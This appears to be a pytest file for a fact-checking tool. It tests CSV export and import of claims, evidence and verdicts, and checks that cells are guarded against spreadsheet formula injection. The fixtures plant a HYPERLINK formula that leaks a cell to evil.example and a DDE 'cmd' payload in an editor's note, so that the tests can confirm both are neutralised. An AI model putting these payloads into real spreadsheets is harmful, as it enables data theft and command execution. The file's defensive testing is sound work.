"""CSV exports and the claims round trip, on every database backend.

The data is written straight through the store and ledger (no network): claims in Chinese and
English, text that a spreadsheet would run as a formula, negative figures, a reused and a failed
evidence row, a system verdict, an editor's override and its lift.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from xml.etree import ElementTree

import pytest
import sqlalchemy as sa

from factcheck.config import Settings
from factcheck.declarations.inputs import validate_claim, validate_source
from factcheck.domain import Hit
from factcheck.editorial import claimrows, csvsafe, evidencecsv, export, exportsql, overrides
from factcheck.editorial.csvimport import import_claims_csv
from factcheck.errors import ValidationError
from factcheck.storage import catalog, db, records, runs, verdicts
from factcheck.storage.models import Evidence, Verdict
from tests.support import IN_CI, DatabaseUnderTest, Result, database_state
from tests.unit.test_csvsafe import INJECTION_TABLE

NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
SETTINGS = Settings(stale_after_days=7)
ISO = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")
ZH = "这是我们首次发布 4050 亿个参数的模型"
PLANTED = '=HYPERLINK("http://evil.example/?leak="&A1,"405B")'


def build(database: DatabaseUnderTest) -> dict[str, int]:
    """Three claims, one source, a run with good, reused and failed evidence, and verdicts."""
    ids: dict[str, int] = {}
    with db.session_scope(database.engine) as session:
        catalog.add_source(
            session=session,
            spec=validate_source(
                {"key": "card", "url": "https://example.org/card.md", "format": "text"}
            ),
            now=NOW,
        )
        link = {"source": "card", "rule_kind": "contains", "rule": "405B"}
        entries = [
            {
                "key": "size-405b",
                "statement": ZH,
                "language": "zh",
                "statement_en": "This is our first 405B-parameter model.",
                "speaker": "Mark Zuckerberg",
                "said_on": "2024-07-23",
                "said_where": "https://example.org/interview",
                "kind": "quantity",
                "expected": "405e9",
                "unit": "parameters",
                "tolerance": "0.01",
                "tags": ["llama", "size"],
                "evidence": [link],
            },
            {
                "key": "price-drop",
                "statement": "-50% cheaper, said @meta",
                "statement_en": "+half the price",
                "kind": "quantity",
                "expected": "-0.5",
                "unit": "%",
                "tags": ["price"],
                "evidence": [link],
            },
            {
                "key": "formula",
                "statement": '=1+1 是公式, "quoted"\nand a second line',
                "kind": "text",
                "expected": "@SUM(A1)",
                "evidence": [link],
            },
        ]
        for entry in entries:
            claim = catalog.add_claim(session=session, spec=validate_claim(entry), now=NOW)
            ids[claim.key] = claim.id or 0
        run = runs.start_run(session=session, trigger="manual", now=NOW)
        source = catalog.get_source(session=session, key="card")
        first = Evidence(
            run_id=run.id or 0,
            claim_id=ids["price-drop"],
            source_id=source.id or 0,
            rule_kind="contains",
            rule="405B",
            fetched_at=NOW - timedelta(days=1),
            http_status=200,
            raw="-50%",
            value="-0.5",
            unit="%",
            excerpt=PLANTED,
            hits=[records.hit_json(Hit(raw="-50%", excerpt=PLANTED, location="line 1"), None)],
            stance="supports",
        )
        session.add(first)
        session.flush()
        second = runs.start_run(session=session, trigger="manual", now=NOW)
        session.add(
            Evidence(
                run_id=second.id or 0,
                claim_id=ids["price-drop"],
                source_id=source.id or 0,
                rule_kind="contains",
                rule="405B",
                fetched_at=NOW,
                http_status=304,
                reused=True,
                reused_from_id=first.id,
                stance="supports",
            )
        )
        session.add(
            Evidence(
                run_id=second.id or 0,
                claim_id=ids["size-405b"],
                source_id=source.id or 0,
                rule_kind="contains",
                rule="405B",
                fetched_at=NOW,
                error_code="timeout",
                error_message="-read timed out\tafter 30 s",
            )
        )
        for key, label in (("price-drop", "supported"), ("size-405b", "not_enough_info")):
            verdicts.add_verdict(
                session=session,
                verdict=Verdict(
                    claim_id=ids[key],
                    run_id=second.id,
                    label=label,
                    confidence="0.9" if label == "supported" else "0",
                    reason=f"{label}: -0.5 found",
                    figures={"found": "-0.5"},
                    created_at=NOW,
                    evidence_ids=[first.id or 0],
                ),
            )
        overrides.set_override(
            session=session,
            key="price-drop",
            label="refuted",
            editor="Ann",
            note="=cmd|' /C calc'!A0",
            now=NOW + timedelta(minutes=1),
        )
        overrides.set_override(
            session=session, key="size-405b", label="mixed", editor="Bo", note="context", now=NOW
        )
        overrides.lift_override(
            session=session, key="size-405b", editor="Bo", note="machine is right", now=NOW
        )
    return ids


def exported(database: DatabaseUnderTest, kind: str, **filters: object) -> list[dict[str, str]]:
    buffer = io.StringIO(newline="")
    with db.session_scope(database.engine) as session:
        export.export_csv(
            kind,
            session=session,
            out=buffer,
            settings=SETTINGS,
            now=NOW,
            filters=export.Filters(**filters),  # type: ignore[arg-type]
        )
    text = buffer.getvalue()
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text[1:], newline="")))
    assert list(rows[0]) if rows else True
    return rows


def test_claims_export_guards_text_and_keeps_numbers(database: DatabaseUnderTest) -> None:
    build(database)
    rows = {r["key"]: r for r in exported(database, "claims")}
    assert list(rows) == ["formula", "price-drop", "size-405b"]  # by key, on both backends
    price, formula, size = rows["price-drop"], rows["formula"], rows["size-405b"]
    assert list(price) == [c.name for c in export.CLAIM_COLUMNS]
    assert price["statement"] == "'-50% cheaper, said @meta"
    assert price["statement_en"] == "'+half the price"
    assert price["expected"] == "-0.5"  # a number stays a number, negative too
    assert price["label"] == "refuted" and price["set_by"] == "editor"
    assert price["editor"] == "Ann" and price["confidence"] == "1"
    assert price["stale"] == "false" and price["last_checked"] == "2026-01-02T03:04:05Z"
    assert price["best_source"] == "card" and price["best_excerpt"] == "'" + PLANTED
    assert price["sources"] == "https://example.org/card.md"
    assert formula["statement"] == '\'=1+1 是公式, "quoted"\nand a second line'
    assert formula["expected"] == "'@SUM(A1)"
    assert formula["label"] == "" and formula["stale"] == "false"  # never fetched: not stale
    assert size["statement"] == ZH and size["tags"] == "llama, size"
    assert size["expected"] == "405000000000" and size["tolerance"] == "0.01"
    assert size["label"] == "not_enough_info" and size["set_by"] == "system"  # override lifted
    for row in rows.values():
        for column in ("verdict_at", "last_checked", "updated_at"):
            assert row[column] == "" or ISO.match(row[column]), row[column]


def test_claims_export_filters_and_pages(
    database: DatabaseUnderTest, monkeypatch: pytest.MonkeyPatch
) -> None:
    build(database)
    monkeypatch.setattr(claimrows, "CLAIM_BATCH", 1)  # keyset paging, one claim per page
    assert [r["key"] for r in exported(database, "claims")] == [
        "formula",
        "price-drop",
        "size-405b",
    ]
    assert [r["key"] for r in exported(database, "claims", tag="price")] == ["price-drop"]
    assert [r["key"] for r in exported(database, "claims", label="none")] == ["formula"]
    assert [r["key"] for r in exported(database, "claims", label="refuted")] == ["price-drop"]
    assert exported(database, "claims", since=NOW + timedelta(days=1)) == []


def test_evidence_export_row_by_row(
    database: DatabaseUnderTest, monkeypatch: pytest.MonkeyPatch
) -> None:
    build(database)
    monkeypatch.setattr(exportsql, "BATCH_ROWS", 1)  # streamed one row per fetch
    monkeypatch.setattr(evidencecsv, "BATCH_ROWS", 1)  # the fast path too
    rows = exported(database, "evidence")
    assert [r["claim_key"] for r in rows] == ["price-drop", "price-drop", "size-405b"]
    first, reused, failed = rows
    assert first["value"] == "-0.5" and first["raw"] == "'-50%" and first["unit"] == "%"
    assert first["excerpt"] == "'" + PLANTED and first["http_status"] == "200"
    assert first["fetched_at"] == "2026-01-01T03:04:05Z"
    assert reused["reused_from"] == first["evidence_id"] and reused["value"] == "-0.5"
    assert reused["excerpt"] == first["excerpt"] and reused["http_status"] == "304"
    assert failed["error_code"] == "timeout" and failed["value"] == ""
    assert failed["error_message"] == "'-read timed out\tafter 30 s"
    assert [r["evidence_id"] for r in exported(database, "evidence", since=NOW)] == [
        reused["evidence_id"],
        failed["evidence_id"],
    ]
    assert {r["claim_key"] for r in exported(database, "evidence", label="refuted")} == {
        "price-drop"
    }


def test_verdicts_and_changes(database: DatabaseUnderTest) -> None:
    build(database)
    verdicts = exported(database, "verdicts")
    assert [(v["claim_key"], v["action"], v["label"]) for v in verdicts] == [
        ("price-drop", "judged", "supported"),
        ("size-405b", "judged", "not_enough_info"),
        ("price-drop", "override", "refuted"),
        ("size-405b", "override", "mixed"),
        ("size-405b", "lift", "not_enough_info"),
    ]
    assert verdicts[2]["note"] == "'=cmd|' /C calc'!A0" and verdicts[2]["editor"] == "Ann"
    assert verdicts[0]["figures"] == '{"found": "-0.5"}' and verdicts[0]["confidence"] == "0.9"
    changes = exported(database, "changes")
    assert [(c["claim_key"], c["from_label"], c["to_label"], c["action"]) for c in changes] == [
        ("price-drop", "", "supported", "judged"),
        ("size-405b", "", "not_enough_info", "judged"),
        ("price-drop", "supported", "refuted", "override"),
        ("size-405b", "not_enough_info", "mixed", "override"),
        ("size-405b", "mixed", "not_enough_info", "lift"),
    ]
    assert [c["to_label"] for c in exported(database, "changes", label="refuted")] == ["refuted"]


def _export_text(database: DatabaseUnderTest) -> str:
    buffer = io.StringIO(newline="")
    with db.session_scope(database.engine) as session:
        export.export_csv("claims", session=session, out=buffer, settings=SETTINGS, now=NOW)
    return buffer.getvalue()


def _import_text(database: DatabaseUnderTest, text: str) -> tuple[list[str], list[str]]:
    with db.session_scope(database.engine) as session:
        report = import_claims_csv(
            session=session, handle=io.StringIO(text.lstrip("\ufeff")), now=NOW
        )
    return report.updated, report.unchanged


def test_edited_export_comes_back_and_only_edited_rows_change(database: DatabaseUnderTest) -> None:
    build(database)
    original = _export_text(database)
    assert _import_text(database, original) == ([], ["formula", "price-drop", "size-405b"])
    assert _export_text(database) == original  # export -> import -> export: byte-identical
    rows = list(csv.reader(io.StringIO(original.lstrip("\ufeff"), newline="")))
    header = rows[0]
    formula = next(r for r in rows if r[0] == "formula")
    formula[header.index("statement_en")] = "'=2+2 是新的 English"  # guarded, as exported
    formula[header.index("tags")] = "maths, zh"
    size = next(r for r in rows if r[0] == "size-405b")
    size[header.index("expected")] = "70e9; 405e9"  # still a quantity: refused below
    size[header.index("kind")] = "quantity_set"
    edited = io.StringIO(newline="")
    csv.writer(edited, lineterminator="\r\n").writerows(rows)
    assert _import_text(database, edited.getvalue()) == (
        ["formula", "size-405b"],
        ["price-drop"],
    )
    with db.session_scope(database.engine) as session:
        claim = catalog.get_claim(session=session, key="formula")
        tags = catalog.claim_tags(session=session, claim_ids=[claim.id or 0])[claim.id or 0]
        sizes = catalog.get_claim(session=session, key="size-405b")
    assert claim.statement_en == "=2+2 是新的 English" and tags == ["maths", "zh"]
    assert sizes.expected_amounts == ["70000000000", "405000000000"]
    after = _export_text(database).split("\r\n")
    before = original.split("\r\n")
    changed = [line for line in after if line not in before]
    assert changed and all(line.startswith(("formula", "size-405b", '"')) for line in changed)
    assert any("'=2+2 是新的 English" in line for line in changed)
    assert [line for line in after if line.startswith("price-drop")] == [
        line for line in before if line.startswith("price-drop")
    ]


def test_an_export_with_its_columns_reordered_imports_the_same(
    database: DatabaseUnderTest,
) -> None:
    """Columns are matched by header name: reversed, and the verdict columns dropped."""
    build(database)
    rows = list(csv.reader(io.StringIO(_export_text(database).lstrip("\ufeff"), newline="")))
    header = rows[0]
    kept = [header.index(name) for name in reversed(export.EDITABLE)]
    rows = [[row[i] for i in kept] for row in rows]
    statement = rows[0].index("statement")
    size = next(r for r in rows if "size-405b" in r)
    size[statement] = "Llama 3.1 405B has 405B parameters"
    edited = io.StringIO(newline="")
    csv.writer(edited, lineterminator="\r\n").writerows(rows)
    assert _import_text(database, edited.getvalue()) == (["size-405b"], ["formula", "price-drop"])
    with db.session_scope(database.engine) as session:
        claim = catalog.get_claim(session=session, key="size-405b")
    assert claim.statement == "Llama 3.1 405B has 405B parameters"


def test_cli_round_trip_is_byte_identical(cli, database: DatabaseUnderTest, tmp_path: Path) -> None:
    build(database)
    ok(cli("export", "claims", "-o", "a.csv"))
    again = ok(cli("import-csv", "a.csv"))
    assert "0 updated, 3 unchanged" in again.stderr
    assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    second = ok(cli("export", "claims", "--no-bom", subprocess=True))  # a real stdout
    # (the runner reads stdout as text, which turns CRLF into LF)
    first = (tmp_path / "a.csv").read_text(encoding="utf-8-sig").replace("\r\n", "\n")
    assert second.stdout == first


def test_import_errors_name_row_and_column_and_write_nothing(
    database: DatabaseUnderTest, tmp_path: Path
) -> None:
    build(database)
    buffer = io.StringIO(newline="")
    with db.session_scope(database.engine) as session:
        export.export_csv(
            "claims", session=session, out=buffer, settings=SETTINGS, now=NOW, bom=False
        )
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    header = rows[0]
    rows[1][header.index("said_on")] = "2024-02-30"
    rows[2][header.index("kind")] = "opinion"
    rows[3][header.index("statement")] = "now valid, but the file is not"
    rows.append(list(rows[3]))
    rows[4][0] = "no-such-claim"
    handle = io.StringIO(newline="")
    csv.writer(handle).writerows(rows)
    before = database_state(database)
    with pytest.raises(ValidationError) as raised, db.session_scope(database.engine) as session:
        import_claims_csv(
            session=session, handle=io.StringIO(handle.getvalue(), newline=""), now=NOW
        )
    message = str(raised.value)
    assert "3 error(s), nothing imported" in message
    assert "row 2, column 'said_on': '2024-02-30' is not a date" in message
    assert "row 3, column 'kind': 'opinion' is not one of" in message
    assert "row 5, column 'key': no claim 'no-such-claim'" in message
    assert database_state(database) == before


def test_cli_import_error_is_one_line(cli, database: DatabaseUnderTest, tmp_path: Path) -> None:
    build(database)
    text = _export_text(database).lstrip("\ufeff")
    (tmp_path / "bad.csv").write_text(text.replace("key,statement", "key,statment"), "utf-8")
    result = cli("import-csv", "bad.csv")
    assert result.code == 2 and "Traceback" not in result.stderr
    assert result.stderr.strip() == "error: row 1, column 'statment': unknown column"
    assert not list(tmp_path.glob("*.part"))


def ok(result: Result) -> Result:
    assert result.code == 0, result.stderr
    assert "Traceback" not in result.stderr
    return result


# -- LibreOffice: the real spreadsheet, when installed ----------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
SHEET_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def _xlsx_cells(path: Path) -> dict[str, tuple[str, str, bool]]:
    """cell ref -> (type, text, has a formula) from the first sheet of an .xlsx."""
    with zipfile.ZipFile(path) as book:
        shared: list[str] = []
        if "xl/sharedStrings.xml" in book.namelist():
            root = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
            for item in root.findall("m:si", SHEET_NS):
                shared.append("".join(t.text or "" for t in item.iter(f"{{{SHEET_NS['m']}}}t")))
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    cells = {}
    for cell in sheet.iter(f"{{{SHEET_NS['m']}}}c"):
        kind = cell.get("t", "n")
        value = cell.find("m:v", SHEET_NS)
        inline = cell.find("m:is", SHEET_NS)
        text = value.text if value is not None and value.text else ""
        if kind == "s":
            text = shared[int(text)]
        elif inline is not None:
            text = "".join(t.text or "" for t in inline.iter(f"{{{SHEET_NS['m']}}}t"))
        cells[cell.get("r", "")] = (kind, text, cell.find("m:f", SHEET_NS) is not None)
    return cells


# In CI the round trip must run (.ci/run installs LibreOffice); elsewhere it may be absent.
@pytest.mark.skipif(SOFFICE is None and not IN_CI, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_reads_the_export_as_text_and_numbers(
    database: DatabaseUnderTest, tmp_path: Path
) -> None:
    assert SOFFICE is not None, "LibreOffice is required in CI: .ci/run installs it"
    build(database)
    path = tmp_path / "evidence.csv"
    with (
        path.open("w", encoding="utf-8", newline="") as handle,
        db.session_scope(database.engine) as session,
    ):
        export.export_csv("evidence", session=session, out=handle, settings=SETTINGS, now=NOW)
    subprocess.run(
        [
            str(SOFFICE),
            "--headless",
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    cells = _xlsx_cells(tmp_path / "evidence.xlsx")
    assert not any(formula for _, _, formula in cells.values()), "a cell became a formula"
    header = [c.name for c in export.EVIDENCE_COLUMNS]
    column = {name: chr(ord("A") + i) for i, name in enumerate(header)}
    kind, text, _ = cells[f"{column['value']}2"]
    assert kind == "n" and float(text) == -0.5  # a negative number stays a number
    for name, expected in (("raw", "-50%"), ("excerpt", PLANTED)):
        kind, text, _ = cells[f"{column[name]}2"]
        assert kind in ("s", "str", "inlineStr") and text.lstrip("'") == expected


def test_failed_export_leaves_no_file(tmp_path: Path) -> None:
    from factcheck.cli.export_cmd import opened_output, parse_since

    with pytest.raises(RuntimeError), opened_output(str(tmp_path / "out.csv")) as out:
        out.write("half a file")
        raise RuntimeError("the database went away")
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(ValidationError):
        parse_since("yesterday")
    assert parse_since("2026-01-02") == datetime(2026, 1, 2, tzinfo=UTC)


def test_the_database_guards_exactly_as_csvsafe(database: DatabaseUnderTest) -> None:
    """The evidence export guards in SQL (for speed): same table, same answers, both backends."""
    texts = [text for text, _ in INJECTION_TABLE] + [None]
    numbers = ["-0.5", "405000000000", "0.0000035", "-1+2", "=1", "@2", "12abc", "", None]
    dialect = database.engine.dialect.name
    with database.engine.connect() as conn:
        for text in texts:
            value = sa.literal(text, sa.Text)
            got = conn.execute(sa.select(export.sql_guard(value))).scalar_one()
            assert got == (None if text is None else csvsafe.guard(text)), repr(text)
        for number in numbers:
            value = sa.literal(number, sa.Text)
            got = conn.execute(sa.select(export.sql_number_guard(value, dialect))).scalar_one()
            assert got == (None if number is None else csvsafe.number_cell(number)), repr(number)


# -- issue 9: what the export writes comes back, and bad cells are refused -------------------


def _edited(text: str, row: int, column: str, value: str) -> str:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    rows[row][rows[0].index(column)] = value
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


@pytest.fixture
def big_cells() -> Iterator[None]:
    """This test's own csv readers take what import-csv takes."""
    before = csv.field_size_limit(csvsafe.MAX_CELL_CHARS)
    yield
    csv.field_size_limit(before)


@pytest.mark.usefixtures("big_cells")
def test_a_long_full_width_formula_statement_round_trips(database: DatabaseUnderTest) -> None:
    build(database)
    statement = "＝HYPERLINK(1)\n" + "约 50% 便宜。" * 40_000  # 320,014 characters
    edited = _edited(_export_text(database), 1, "statement", csvsafe.guard(statement))
    updated, _ = _import_text(database, edited)
    assert len(updated) == 1
    again = _export_text(database)
    cells = [r["statement"] for r in csv.DictReader(io.StringIO(again[1:], newline=""))]
    assert csvsafe.guard(statement) in cells and "'＝HYPERLINK" in again
    updated_again, unchanged = _import_text(database, again)
    assert updated_again == [] and len(unchanged) == 3
    assert _export_text(database) == again


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("statement", "a\x00b", "row 3, column 'statement': control character U+0000"),
        ("speaker", "\x1b[31mred", "row 3, column 'speaker': control character U+001B"),
        ("said_where", "http://[::1/", "row 3, column 'said_where'"),
        ("said_where", "https://example.org:99999/", "port must be between 1 and 65535"),
    ],
)
def test_bad_cells_are_refused_on_every_backend(
    database: DatabaseUnderTest, column: str, value: str, message: str
) -> None:
    build(database)
    text = _edited(_export_text(database), 1, "statement", "first\r\nrow spans\r\nlines")
    text = _edited(text, 2, column, value)
    before = database_state(database)
    with pytest.raises(ValidationError) as raised:
        _import_text(database, text)
    assert message in str(raised.value) and "\n" not in str(raised.value)
    assert database_state(database) == before


def test_sigterm_during_an_export_removes_the_part_file(tmp_path: Path) -> None:
    """In-process, with a real signal: the handler unwinds the stack, then is put back."""
    import signal

    from factcheck.cli.export_cmd import SIGTERM_EXIT, opened_output

    before = signal.getsignal(signal.SIGTERM)
    with pytest.raises(SystemExit) as raised, opened_output(str(tmp_path / "out.csv")) as out:
        out.write("half a file")
        assert [p.name for p in tmp_path.iterdir()] == [".out.csv.part"]
        signal.raise_signal(signal.SIGTERM)
    assert raised.value.code == SIGTERM_EXIT == 143
    assert list(tmp_path.iterdir()) == []
    assert signal.getsignal(signal.SIGTERM) == before


def test_sigterm_to_an_exporting_process_leaves_no_file(tmp_path: Path) -> None:
    """A real process, killed with SIGTERM while its part file is open."""
    import signal
    import sys

    script = (
        "import sys, time\n"
        "from factcheck.cli.export_cmd import opened_output\n"
        "with opened_output(sys.argv[1]) as out:\n"
        "    out.write('row\\r\\n' * 1000)\n"
        "    print('writing', flush=True)\n"
        "    time.sleep(120)\n"
    )
    process = subprocess.Popen(
        [sys.executable, "-c", script, str(tmp_path / "out.csv")],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert process.stdout is not None and process.stdout.readline() == "writing\n"
        assert (tmp_path / ".out.csv.part").exists()
        process.send_signal(signal.SIGTERM)
        assert process.wait(timeout=60) == 143
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        assert process.stdout is not None
        process.stdout.close()
    assert list(tmp_path.iterdir()) == []
